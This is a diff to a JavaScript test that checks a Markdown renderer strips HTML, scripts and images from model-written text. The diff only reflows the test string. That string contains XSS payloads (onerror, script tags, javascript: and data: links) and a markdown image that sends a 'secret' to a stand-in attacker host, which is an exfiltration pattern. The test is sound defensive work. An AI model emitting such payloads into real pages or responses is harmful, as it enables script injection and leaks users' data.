@@ -21,7 +21,9 @@ it('is drawn in pieces as it is drawn whole', () => {
 describe('what a model wrote', () => {
   it('cannot bring HTML, scripts or pictures along', () => {
     const evil =
-      '<img src=x onerror=alert(1)> <script>alert(1)</script> [a](javascript:alert(1)) [b](data:text/html,x) [c](/settings) ![p](https://evil.example/p.png?secret) <a href="https://x">y</a>'
+      '<img src=x onerror=alert(1)> <script>alert(1)</script> [a](javascript:alert(1)) ' +
+      '[b](data:text/html,x) [c](/settings) ![p](https://evil.example/p.png?secret) <a ' +
+      'href="https://x">y</a>'
     const { container } = render(<Markdown text={evil} />)
     expect(container.querySelector('img, script, iframe')).toBeNull()
     expect([...container.querySelectorAll('a')].map((a) => a.href)).toEqual(['https://evil.example/p.png?secret'])
